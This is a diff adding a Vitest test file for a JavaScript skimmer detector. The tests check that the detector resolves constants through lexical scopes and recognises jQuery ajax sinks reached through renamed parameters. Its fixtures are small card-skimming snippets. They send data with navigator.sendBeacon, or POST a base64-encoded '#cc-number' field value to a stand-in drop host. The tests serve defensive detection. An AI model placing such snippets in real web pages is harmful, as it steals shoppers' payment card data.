@@ -1,0 +1,109 @@
+import { describe, expect, it } from 'vitest'
+import { collectLayer } from '../../detector/collect.ts'
+import type { ScriptFacts } from '../../detector/facts.ts'
+import { analyzeScript } from '../../detector/index.ts'
+import { parseSource } from '../../detector/parse.ts'
+import { findSinks } from '../../detector/sinks.ts'
+
+// Constants and aliases resolve through lexical scopes: a skimmer's short names must not be
+// confused with a library's identical minified names in the same file.
+
+function factsOf(source: string): ScriptFacts {
+  const facts: ScriptFacts = {
+    source,
+    sha256: '',
+    layers: [],
+    strings: [],
+    regexes: [],
+    calls: [],
+    assigns: [],
+    members: [],
+    debuggerTraps: [],
+    sizeChecks: [],
+    sinks: [],
+  }
+  const { ast } = parseSource(source)
+  collectLayer({ ast, source, depth: 0, outer: undefined }, facts, { bytesLeft: 1 << 20 })
+  facts.sinks = findSinks(facts, {})
+  return facts
+}
+
+const sinkUrls = (source: string): (string | undefined)[] =>
+  factsOf(source).sinks.map((s) => s.urlText)
+
+const DROP = 'https://drop.example.test/c'
+
+describe('scope-aware constants', () => {
+  // source → the URL the one sink in it must resolve to (undefined: not a constant)
+  const cases: [string, string, string | undefined][] = [
+    [
+      'a function-scoped var shadows an outer one of the same name',
+      `!function(){var u=1;u=2}();(function(){var u='${DROP}';navigator.sendBeacon(u,'x')})()`,
+      DROP,
+    ],
+    [
+      'an outer var is not changed by an inner function reassigning its own',
+      `var u='${DROP}';function f(){var u;u=1;u=2}navigator.sendBeacon(u,'x')`,
+      DROP,
+    ],
+    [
+      'let in a block is not the let outside it',
+      `let u='${DROP}';{let u='https://other.test/';u+='x'}navigator.sendBeacon(u,'x')`,
+      DROP,
+    ],
+    [
+      'a parameter hides an outer constant',
+      `var u='${DROP}';function f(u){navigator.sendBeacon(u,'x')}`,
+      undefined,
+    ],
+    [
+      'a var assigned before its hoisted declaration is still one constant',
+      `function f(){u='${DROP}';navigator.sendBeacon(u,'x');var u}`,
+      DROP,
+    ],
+    [
+      'a var assigned twice is not a constant',
+      `var u='${DROP}';u='https://b.test/';navigator.sendBeacon(u,'x')`,
+      undefined,
+    ],
+    [
+      'an IIFE argument binds its parameter',
+      `(function(h){navigator.sendBeacon(h,'x')})('${DROP}')`,
+      DROP,
+    ],
+    [
+      'a reassigned IIFE parameter is not a constant',
+      `(function(h){h=h+'?';navigator.sendBeacon(h,'x')})('${DROP}')`,
+      undefined,
+    ],
+    [
+      'a counter mutated by ++ is not a constant',
+      `var i='${DROP}';i++;navigator.sendBeacon(i,'x')`,
+      undefined,
+    ],
+  ]
+  it.each(cases)('%s', (_what, source, url) => {
+    expect(sinkUrls(source)).toEqual([url])
+  })
+})
+
+describe('jQuery through a renamed parameter', () => {
+  const post = (q: string): string =>
+    `${q}.ajax({url:'${DROP}',type:'POST',data:{c:btoa(${q}('#cc-number').val())}})`
+
+  it.each([
+    ['an IIFE', `(function(q){${post('q')}})(jQuery)`],
+    ['an IIFE via .call', `(function(q){${post('q')}}).call(this,window.jQuery)`],
+    ['a ready handler', `jQuery(document).ready(function(z){${post('z')}})`],
+    ['a jQuery(fn) handler', `jQuery(function(z){${post('z')}})`],
+    ['a local alias', `(function(){var k=jQuery;${post('k')}})()`],
+  ])('is a jQuery ajax sink in %s', (_how, source) => {
+    const sinks = factsOf(source).sinks
+    expect(sinks.map((s) => [s.kind, s.urlText])).toEqual([['jquery-ajax', DROP]])
+    expect(analyzeScript(source).verdict).toBe('malicious')
+  })
+
+  it('is not a sink when the parameter is something else', () => {
+    expect(factsOf(`(function(q){${post('q')}})(Math)`).sinks).toEqual([])
+  })
+})
